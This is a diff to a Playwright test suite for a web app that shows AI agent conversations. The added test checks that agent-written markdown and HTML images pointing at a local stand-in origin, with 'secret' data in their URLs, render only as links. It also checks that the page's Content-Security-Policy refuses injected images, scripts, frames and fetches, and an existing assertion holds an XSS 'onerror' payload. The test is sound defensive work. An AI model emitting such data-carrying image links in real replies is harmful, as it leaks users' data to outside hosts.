@@ -5,6 +5,8 @@
 // Streaming and approval run on a second app with the test agent module
 // (AGENT_MODULES, test/fixtures/agents/scripted-agents.mjs).
 import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
@@ -20,6 +22,8 @@ declare const window: { __pwned?: unknown };
 declare const document: {
   documentElement: { scrollWidth: number };
   activeElement: { id: string; textContent: string | null } | null;
+  body: { append(element: unknown): void };
+  createElement(tag: string): { src: string; onload: unknown; onerror: unknown };
 };
 
 const ARTIFACTS = join(ROOT, 'test', 'artifacts');
@@ -53,13 +57,19 @@ describe('web app', () => {
     rmSync(dataDir, { recursive: true, force: true });
   });
 
-  /** A fresh browser profile's page, with errors of the page collected. */
+  /**
+   * A fresh browser profile's page, with errors of the page collected: what
+   * the page's Content-Security-Policy refused counts as one.
+   */
   async function newPage(viewport = { width: 1280, height: 800 }) {
     const context = await browser.newContext({ viewport });
     contexts.push(context);
     const page = await context.newPage();
     const errors: string[] = [];
     page.on('pageerror', (error) => errors.push(error.message));
+    page.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) errors.push(message.text());
+    });
     return { context, page, errors };
   }
 
@@ -308,6 +318,89 @@ describe('web app', () => {
     await expect(
       page.getByRole('article').filter({ hasText: '<img src=y' }).first().textContent(),
     ).resolves.toBe('<img src=y onerror="window.__pwned = 7">');
+  });
+
+  it("loads nothing from another origin: an agent's image is a link, and the page's policy refuses the rest", async () => {
+    // Another origin on this machine that records what reaches it.
+    const reached: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      reached.push(request.url ?? '');
+      response.writeHead(200, { 'content-type': 'image/gif' }).end();
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    const origin = `http://localhost:${(elsewhere.address() as AddressInfo).port}`;
+    try {
+      const { page } = await newPage();
+      const refused: string[] = [];
+      page.on('console', (message) => {
+        if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
+      });
+      const user = await signIn(page);
+      const token = await devToken(app.url, { user_id: user });
+      const exfiltrating = [
+        `Here is the logo: ![the logo](${origin}/markdown?d=%7B%22secret%22%3A1%7D)`,
+        `<img src="${origin}/html?d=secret" alt="an html image">`,
+        'the end',
+      ].join('\n\n');
+      const created = await api<{ conversation_id: string }>(
+        app.url,
+        'POST',
+        '/api/conversations',
+        {
+          token,
+          body: {
+            title: 'exfiltration',
+            replay_json: JSON.stringify([
+              { source: 'user', action: 'message', args: { content: 'show me' }, message: '' },
+              { source: 'agent', action: 'message', args: { content: exfiltrating }, message: '' },
+            ]),
+          },
+        },
+      );
+      expect(created.status).toBe(201);
+      await page.goto(`${app.url}/#/c/${created.body.conversation_id}`);
+      const message = article(page, 'the end');
+      await message.waitFor({ timeout: TIMEOUT });
+      await expect(message.locator('img').count()).resolves.toBe(0);
+      const logo = message.getByRole('link', { name: 'the logo' });
+      await expect(logo.getAttribute('href')).resolves.toBe(
+        `${origin}/markdown?d=%7B%22secret%22%3A1%7D`,
+      );
+      await expect(
+        message.getByRole('link', { name: 'an html image' }).getAttribute('href'),
+      ).resolves.toBe(`${origin}/html?d=secret`);
+
+      // Should something slip through, the page's policy stops it: no image, script,
+      // request or frame of another origin.
+      const attempts = await page.evaluate(async (target) => {
+        const image = document.createElement('img');
+        const loaded = new Promise<string>((resolve) => {
+          image.onload = () => resolve('loaded');
+          image.onerror = () => resolve('refused');
+        });
+        image.src = `${target}/injected-image`;
+        document.body.append(image);
+        const script = document.createElement('script');
+        script.src = `${target}/injected-script`;
+        document.body.append(script);
+        const frame = document.createElement('iframe');
+        frame.src = `${target}/injected-frame`;
+        document.body.append(frame);
+        const fetched = await fetch(`${target}/injected-fetch`).then(
+          () => 'fetched',
+          () => 'refused',
+        );
+        return { image: await loaded, fetched };
+      }, origin);
+      expect(attempts).toEqual({ image: 'refused', fetched: 'refused' });
+      await page.waitForTimeout(500);
+      expect(reached).toEqual([]);
+      expect(refused.length).toBeGreaterThanOrEqual(2);
+    } finally {
+      // A refused frame may still leave a connection Chromium opened ahead, unused.
+      elsewhere.closeAllConnections();
+      await new Promise((resolve) => elsewhere.close(resolve));
+    }
   });
 
   it('opens a long conversation at its latest messages and loads older ones on scroll', async () => {
